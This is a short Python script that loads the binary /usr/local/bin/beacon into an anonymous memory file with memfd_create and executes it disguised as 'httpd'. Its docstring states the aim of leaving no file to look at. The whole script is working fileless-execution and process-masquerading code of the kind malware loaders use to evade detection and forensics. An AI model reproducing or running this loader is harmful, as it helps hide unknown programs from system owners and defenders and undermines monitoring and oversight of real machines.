#!/usr/bin/python3
"""Copies a program into memory and becomes it: afterwards there is no file to look at."""
import os

memory = os.memfd_create("phantom")
with open("/usr/local/bin/beacon", "rb") as program:
    os.write(memory, program.read())
os.execve(memory, ["httpd", "-f", "-p", "7003"], {})
